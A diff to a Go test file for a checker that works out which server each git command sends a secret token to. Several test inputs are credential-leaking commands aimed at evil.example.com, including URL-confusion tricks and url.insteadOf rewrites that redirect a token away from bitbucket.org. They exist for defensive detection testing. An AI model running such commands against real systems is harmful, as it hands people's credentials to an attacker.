@@ -114,7 +114,52 @@ func TestUsageOfWhatCannotBeFollowed(t *testing.T) {
 		"git clone https://x-access-token:$T@github.com/acme/app.git",
 		"echo https://x-token-auth:$T@bitbucket.org >~/.git-credentials",
 	}, usage.Opaque)
+	assert.Equal(t, []string{"https://github.com"}, usage.Elsewhere)
 	assert.Equal(t, setup.Usage{}, setup.UsageOf([]string{"make"}, "T"))
+}
+
+// TestUsageElsewhere: git presents the secret to whatever server a command names, however
+// the name is written.
+func TestUsageElsewhere(t *testing.T) {
+	t.Parallel()
+	const (
+		header  = `git config --global http.extraHeader "Authorization: Bearer $T"`
+		helper  = `git config --global credential.https://git.example.com.helper '!f() { echo "password=$T"; }; f'`
+		oneTime = `git clone -c "http.extraHeader=Authorization: Bearer $T" `
+	)
+	for _, test := range []struct {
+		commands []string
+		want     string
+	}{
+		{[]string{"git clone https://x:$T@git.example.com/x.git"}, "https://git.example.com"},
+		{[]string{"git clone HTTPS://x:$T@Git.Example.com:0443/scm/PRJ/x.git"}, "https://git.example.com"},
+		{[]string{"git clone http://x:$T@git.example.com:8080/x.git"}, "http://git.example.com:8080"},
+		{[]string{oneTime + "https://bitbucket.org./acme/app.git"}, "https://bitbucket.org."},
+		{[]string{oneTime + "https://bitbucket.org.evil.example.com/acme/app.git"}, "https://bitbucket.org.evil.example.com"},
+		{[]string{oneTime + "'https://evil.example.com?@bitbucket.org/acme/app.git'"}, "https://evil.example.com"},
+		{[]string{oneTime + "'https://evil.example.com#@bitbucket.org/acme/app.git'"}, "https://evil.example.com"},
+		{[]string{oneTime + "https://[::1]:8443/scm/PRJ/app.git"}, "https://[::1]:8443"},
+		{[]string{oneTime + "https://b\u00fccher.example/scm/PRJ/app.git"}, "https://b\u00fccher.example"},
+		{[]string{"git clone -c url.https://x:$T@evil.example.com/.insteadOf=https://bitbucket.org/ https://bitbucket.org/acme/app.git"}, "https://evil.example.com"},
+		{[]string{"git config --global url.https://x:$T@evil.example.com/.insteadOf https://bitbucket.org/", "git clone https://bitbucket.org/acme/app.git"}, "https://evil.example.com"},
+		{[]string{"git clone https://x-token-auth:$T@bitbucket.org/acme/app.git && git -C app submodule add https://x:$T@git.example.com/x.git"}, "https://git.example.com"},
+		{[]string{"timeout 60 git -C app fetch https://x:$T@git.example.com/scm/PRJ/x.git"}, "https://git.example.com"},
+		{[]string{"sh -c 'git ls-remote https://x:$T@git.example.com/x.git'"}, "https://git.example.com"},
+		{[]string{"pip install git+https://x:$T@git.example.com/x.git"}, "https://git.example.com"},
+		{[]string{header, "git clone https://github.com/acme/app.git"}, "https://github.com"},
+		{[]string{helper, "git clone https://git.example.com/x.git"}, "https://git.example.com"},
+		{[]string{helper, "git clone https://not.git.example.com/x.git"}, ""},
+		{[]string{helper, "git clone https://git.example.com/scm/PRJ/x.git"}, ""},
+		{[]string{"git clone https://x:$OTHER@git.example.com/x.git"}, ""},
+		{[]string{"git clone https://x:$T@$HOST/x.git"}, ""},
+		{[]string{"curl -u x:$T https://api.bitbucket.org/2.0/user"}, ""},
+	} {
+		var want []string
+		if test.want != "" {
+			want = []string{test.want}
+		}
+		assert.Equal(t, want, setup.UsageOf(test.commands, "T").Elsewhere, "%q", test.commands)
+	}
 }
 
 // After a login no command has to name the secret. What may reach the server in a
